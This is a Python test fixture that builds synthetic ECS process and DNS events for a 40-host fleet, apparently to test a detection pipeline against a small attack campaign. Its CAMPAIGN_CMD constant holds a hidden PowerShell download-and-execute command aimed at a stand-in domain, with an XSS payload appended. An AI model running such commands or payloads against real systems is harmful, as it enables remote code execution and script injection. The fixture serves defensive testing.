"""A small ECS fleet of the tests' own making, pushed through the real pipeline.

40 hosts over two days run ubiquitous software and browse a few sites; in the
last hours a campaign on 10 hosts resolves a new, rare domain and runs one
PowerShell command line (the PRODUCT.md story, in miniature).  Strings that an
attacker controls carry HTML and quotes on purpose.
"""

from __future__ import annotations

import random
from datetime import UTC, datetime
from typing import Any

START = 1_790_000_000.0
DAY = 86_400.0
HOSTS = [f"ws-{i:04d}" for i in range(40)]
CAMPAIGN_HOSTS = HOSTS[:10]
SECOND_HOSTS = HOSTS[20:26]
SECOND_DOMAIN = "telemetry-sync.example"
CAMPAIGN_DOMAIN = "cdn-img-delivery.example"
CAMPAIGN_CMD = "powershell.exe -nop -w hidden -c \"iex (iwr 'https://cdn-img-delivery.example/a.png')\" <img src=x onerror=alert(1)>"


def _iso(ts: float) -> str:
    return datetime.fromtimestamp(ts, tz=UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _process(host: str, ts: float, exe: str, cmd: str, parent: str) -> dict[str, Any]:
    return {"@timestamp": _iso(ts), "host": {"name": host},
            "event": {"category": "process", "action": "start"},
            "process": {"executable": exe, "command_line": cmd,
                        "parent": {"executable": parent}}}


def _dns(host: str, ts: float, name: str, exe: str) -> dict[str, Any]:
    return {"@timestamp": _iso(ts), "host": {"name": host},
            "event": {"category": "network", "action": "dns"},
            "process": {"executable": exe}, "dns": {"question": {"name": name}}}


def fleet_events(seed: int = 7) -> list[dict[str, Any]]:
    """ECS documents of the whole fleet, in time order."""
    rng = random.Random(seed)
    events: list[dict[str, Any]] = []
    for host in HOSTS:
        for day in range(2):
            base = START + day * DAY + rng.uniform(0, 3600)
            events.append(_process(host, base, r"C:\Windows\explorer.exe", "explorer.exe",
                                   r"C:\Windows\System32\userinit.exe"))
            events.append(_dns(host, base + 60, "update.vendor.example",
                               r"C:\Program Files\Vendor\updater.exe"))
    for site in range(5):
        for host in rng.sample(HOSTS, 4):
            ts = START + rng.uniform(0, 1.5 * DAY)
            events.append(_dns(host, ts, f"site{site}.example",
                               r"C:\Program Files\Browser\browser.exe"))
    for index, host in enumerate(CAMPAIGN_HOSTS):
        ts = START + 1.8 * DAY + 30 * index
        events.append(_process(host, ts, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                               CAMPAIGN_CMD, r"C:\Windows\System32\wscript.exe"))
        events.append(_dns(host, ts + 5, CAMPAIGN_DOMAIN,
                           r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"))
    for index, host in enumerate(SECOND_HOSTS):
        ts = START + 1.7 * DAY + 300 * index
        events.append(_dns(host, ts, SECOND_DOMAIN, r"C:\Users\Public\sync.exe"))
        events.append(_process(host, ts - 10, r"C:\Users\Public\sync.exe", "sync.exe --quiet",
                               r"C:\Windows\explorer.exe"))
    events.sort(key=lambda e: e["@timestamp"])
    return events
